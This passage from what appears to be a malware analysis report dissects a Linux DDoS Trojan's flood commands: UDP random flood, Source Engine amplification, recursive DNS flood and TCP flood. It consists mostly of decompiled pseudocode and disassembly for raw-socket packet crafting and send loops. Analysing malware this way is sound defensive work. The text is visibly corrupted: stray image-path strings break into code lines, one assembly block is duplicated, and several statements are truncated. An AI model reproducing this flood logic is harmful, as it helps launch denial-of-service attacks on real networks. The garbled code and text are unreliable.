TTL = getNumberOrDefault(params_count,params, 4, 64);
fragmentation = getNumberOrDefault(params_count, params, 5, 0);
sport = getNumberOrDefault(params_count, params, 6, 0xFFFF);
dport = getNumberOrDefault(params_count, params, 7, 0xFFFF);
packetSize = getNumberOrDefault(params_count, params, 0, 512);
needFillRandom = getNumberOrDefault(params_count, params, 1, 1);

The getNumberOrDefault function has the following structure:

int __cdecl getNumberOrDefault(unsigned __int8 length, param2 *param, char id, int default)

It returns the value from the parameter array with the specified id or the value default if the id is not found. Values for the id field:

0It is changed depending on the handler and implies either the length of the whole packet or the length of the data.
1For some types of attacks, it determines whether random data needs to be generated in the packet
5ip_header.flags <<13 | ip_header.fragment
6source port
7dest port
8Host in the DNS request
9DNS request parameters
19Specifies whether ip.dstAddr in the GRE packet is the same as in the external packet.20Requested page
22The host header value

Then the Trojan creates a “raw” socket and enters the IP header:

.text:0804AB7F                 push    IPPROTO_UDP
.text:0804AB81                 push    SOCK_RAW
.text:0804AB83                 push    AF_INET
.text:0804AB85                 call    ___GI_socket
.text:0804AB8A                 mov     [esp+6Ch+fd], eax
.text:0804AB8E                 add     esp, 10h
.text:0804AB91                 inc     eax
.text:0804AB92                 jz      loc_804AE5E
.text:0804AB98                 mov     [esp+5Ch+var_14], 1
.text:0804ABA0                 sub     esp, 0Ch
.text:0804ABA3                 push    4
.text:0804ABA5                 lea     eax, [esp+6Ch+var_14]
.text:0804ABA9                 push    eax
.text:0804ABAA                 push    IP_HDRINCL
.text:0804ABAC                 push    SOL_IP
.text:0804ABAE                 mov     ebx, [esp+78h+fd]
.text:0804ABB2                 push    ebx
.text:0804ABB3                 call    ___GI_setsockopt

After that, it is generated using the header of a IP/UDP datagram for each objective received:

do {
    target_packet_headers[v4] = calloc(0x5E6u, 1u);     current_ipudp_header = target_packet_headers[counter];
    current_ipudp_header->header.ip.Version = 69;
    current_ipudp_header->header.ip.TOS = TOS;
    v6 = htons(packetSize + 28, 8);
    current_ipudp_header->header.ip.totalLength = v6;
    current_ipudp_header->header.ip.TTL = TTL;
    v7 = htons(ident, 8);
    current_ipudp_header->header.ip.ident = v7;
    if ( fragmentation )
        current_ipudp_header->header.ip.frag_offs = 64;
    current_ipudp_header->header.ip.protocol = IPPROTO_UDP;
    current_ipudp_header->header.ip.src_addr = selfaddr;
    current_ipudp_header->header.ip.dst_addr = targets[counter].target_ip;
    v9= __ROR2__(sport, 8);
    current_ipudp_header-> = v9;
    v10 = __ROR2__(dport, 8);
    current_ipudp_header->header.udp.dport = v10;
    v11 = __ROR2__(packetSize + 8, 8);
    current_ipudp_header->header.udp.length = v11;
}while ( target_count > counter );

Then packets are sent to specified targets. If maskbits <= 31, a random target is generated. If the parameter values ident, dport, and sport equal 0xffff, these parameters are generated randomly for every packet. If a certain parameter is set, a packet’s body will be generated:

text:0804ADF3 rand_indent:                            ; CODE XREF: cmd0_udp_random+233j
.text:0804ADF3                 call    rand_cmwc
.text:0804ADF8cmp     [esp+5Ch+sourcePort], 0FFFFh
.text:0804ADFE                 mov     [esi+ipudp_0.header._ip.ident], ax
.text:0804AE02                 jnz     sport_is_const
.text:0804AE08 rand_sport:                             ; CODEXREF: cmd0_udp_random+23Fj
.text:0804AE08                 call    rand_cmwc
.text:0804AE0D                 cmp     [esp+5Ch+destPort], 0FFFFh
.text:0804AE13                 mov     [], ax
.text:0804AE17                 jnz     dport_is_const
.text:0804AE1D rand_dport:                             ; CODE XREF: cmd0_udp_random+24Bj
.text:0804AE1D                 call    rand_cmwc
.text:0804AE22                 cmp     [esp+5Ch+needFillRandom], 0
.text:0804AE27                 mov     [edi+udp_packet.dport], ax
.text:0804AE2B                 jz      send_packet.text:0804AE31 loc_804AE31:                            ; CODE XREF: cmd0_udp_random+256j
.text:0804AE31                 push    eax
.text:0804AE32                 push    eax
.text:0804AE33                 mov     eax, dword ptr [esp+64h+size_of_packet]
.text:0804AE37                 and     eax, 0FFFFh
.text:0804AE3C                 push    eax             ; a2
.text:0804AE31 loc_804AE31:                            ; CODE XREF: cmd0_udp_random+256j
.text:0804AE31                 push    eax
.text:0804AE32                 push    eax
.text:0804AE33                 mov     eax, dword ptr [esp+64h+size_of_packet]
.text:0804AE37                 and     eax, 0FFFFh
.text:0804AE3C                 push    eax             ; a2
.text:0804AE3D                 lea     eax, []
.text:0804AE40                 push    eax             ; a1
.text:0804AE41                 call    fillBufRandom
.text:0804AE46                 add     esp, 10h
.text:0804AE49                 jmp     send_packet

Then the Trojan counts checksums and shifts its attention to the next target. This procedure continues until the process is terminated:

.text:0804AD1C send_packet:                            ; CODE XREF: cmd0_udp_random+36Bj
.text:0804AD1C                                         ;cmd0_udp_random+389j
.text:0804AD1C                 mov     word ptr [esi+0Ah], 0
.text:0804AD22                 push    eax.text:0804AD23                 push    eax
.text:0804AD24                 push    14h
.text:0804AD26                 push    esi
.text:0804AD27                 call    calcIPCheckSum
.text:0804AD2C                 mov     [esi+0Ah], ax
.text:0804AD30                 mov     word ptr [edi+6], 0
.text:0804AD36                 push    ebx             ; a4
.text:0804AD37                 mov     ax, [edi+4]
.text:0804AD3B                 and     eax, 0FFFFh
.text:0804AD40                 push    eax             ; a3
.text:0804AD41                 push    edi             ; a2.text:0804AD42                 push    esi             ; a1
.text:0804AD43                 call    calcUDPChecksum
.text:0804AD48                 mov     [edi+6], ax
.text:0804AD4C                 mov     eax, [esp+7Ch+counter]
.text:0804AD50                 mov     ecx, [esp+7Ch+targets]
.text:0804AD57                 mov     dx, [edi+2]
.text:0804AD5B                 lea     eax, [eax+eax*2]
.text:0804AD5E                 add     esp, 18h
.text:0804AD61                 shl     eax, 3
.text:0804AD64                 mov     [eax+ecx+0Ah], dx
.text:0804AD69                 lea     eax, [ecx+eax+8]
.text:0804AD6D                 push    10h
.text:0804AD6F                 push    eax
.text:0804AD70                 push    4000h
.text:0804AD75                 push    ebp
.text:0804AD76                 push    esi
.text:0804AD77                 mov     esi, [esp+78h+fd]
.text:0804AD7B                 push    esi
.text:0804AD7C                 call    ___libc_sendto.text:0804AD81                 mov     eax, [esp+7Ch+counter]
.text:0804AD85                 inc     eax
.text:0804AD86                 mov     [esp+7Ch+counter], eax
.text:0804AD8A                 add     esp, 20h
.text:0804AD8D                 cmp     eax, [esp+5Ch+target_count_2]
.text:0804AD91                 jl      send_to_next_target
.text:0804AD97                 mov     ecx, [esp+5Ch+target_count_2]
.text:0804AD9B                 test    ecx, ecx
.text:0804AD9D                 jmp     and_again

cmd1 - Source Engine Amplification

It operates like theprevious command; however, the packet’s content is retrieved from the configuration:

TOS = getNumberOrDefault(params_count, params, 2, 0);
ident = getNumberOrDefault(params_count, params, 3, 0xFFFF);
TTL = getNumberOrDefault(params_count, params, 4, 64);
frag = getNumberOrDefault(params_count, params, 5, 0);
sport = getNumberOrDefault(params_count, params, 6, 0xFFFF);
dport = getNumberOrDefault(params_count, params, 7, 27015); //constant by default
tsource = (char *)get_data_from_config(8);  // get "TSource Engine Query"

cmd2 - DNS floodThis command uses parameters similar to the previous ones; however, in this case, the value transaction_id and the domain name that needs to be requested are added for the DNS packet:

TOS = getNumberOrDefault(params_count, params, 2, 0);
ident = getNumberOrDefault(params_count, params, 3, 0xFFFF);
TTL = getNumberOrDefault(params_count, params, 4, 64);
frag = getNumberOrDefault(params_count, params, 5, 0);
sport = getNumberOrDefault(params_count, params, 6, 0xFFFF);
dport = getNumberOrDefault(params_count, params, 7, 53);
transaction_id_1 = getNumberOrDefault(params_count, params, 9, 0xFFFF);
random_data_length = getNumberOrDefault(params_count, params, 0, 12);
query = getString(params_count, params, 8, 0);

A packet containing 100 domain requests is generated and sent to the specified address. The Recursion desired flag is set:

.text:0804A4D3                 mov     [ecx+dnsheader.flags], 1 ; Do request reqursively
.text:0804A4D9                 mov     [ecx+dnsheader.qdcount], 100h ; One Request
.text:0804A4DF                 mov     [edx+ipudp_2.queries], al  ; size of random generated
.text:0804A4E2                 mov     ecx, [esp+6Ch+random_data_length]
.text:0804A4E6                 push    eax
.text:0804A4E7                 mov     eax, [esp+70h+length_of_domain]
.text:0804A4EB                 push    eax             ; a3
.text:0804A4EC                 lea     ebx, [edx+ecx+(ipudp_2.queries+1)]
.text:0804A4F0                 mov     eax, [esp+74h+domain_query]
.text:0804A4F4                 push    eax             ; a2
.text:0804A4F5                 lea     eax, [ebx+1]
.text:0804A4F8                 push    eax             ; a1.text:0804A4F9                 call    strncpy
.text:0804A4FE                 add     esp, 10h
.text:0804A501                 mov     esi, [esp+6Ch+length_of_str]
.text:0804A505                 test    esi, esi
.text:0804A507                 jle     loc_804A71E
.text:0804A50D                 mov     edx, ebx
.text:0804A50F                 xor     ecx, ecx
.text:0804A511                 mov     eax, 1
.text:0804A516                 jmp     short check_char_in_query
.text:0804A518 ; ---
.text:0804A518 not_dot:                                ; CODE XREF: cmd2_dns_flood+29Dj
.text:0804A518                 inc     ecx             ; parsing query
.text:0804A519not_very_efficient_loop:                ; CODE XREF: cmd2_dns_flood+2A6j
.text:0804A519                 inc     eax
.text:0804A51A                 cmp     eax, [esp+6Ch+random_data_length]
.text:0804A51E                 jz      loc_804A6E9
.text:0804A524 check_char_in_query:                    ; CODE XREF: cmd2_dns_flood+286j
.text:0804A524                 mov     esi, [esp+6Ch+domain_query]
.text:0804A528                 cmp     byte ptr [eax+esi-1], '.'
.text:0804A52D                 jnz     short not_dot   ; parsing query
.text:0804A52F                 mov     [edx], cl
.text:0804A531                 lea     edx, [ebx+eax]
.text:0804A534                 xor     ecx, ecx
.text:0804A536                 jmp     short not_very_efficient_loop

A name of a requested host is generated by setting a length of a generated prefix in the field 0, to which a string, transmitted in the parameter with id = 8, is added.

cmd3 - TCP flood 2 options

The command is responsible for sending TCP packets to specified targets. It also allows values to be specified for TCP flags using these parameters:

TOS = getNumberOrDefault(params_count, params, 2, 0);
ident = getNumberOrDefault(params_count, params, 3, 0xFFFF);
TTL = getNumberOrDefault(params_count, params, 4, 64);
frag = getNumberOrDefault(params_count, params, 5, 1);
sport = getNumberOrDefault(params_count, params, 6, 0xFFFF);
dport = getNumberOrDefault(params_count, params, 7, 0xFFFF);
seq = getNumberOrDefault(params_count, params, 17, 0xFFFF);
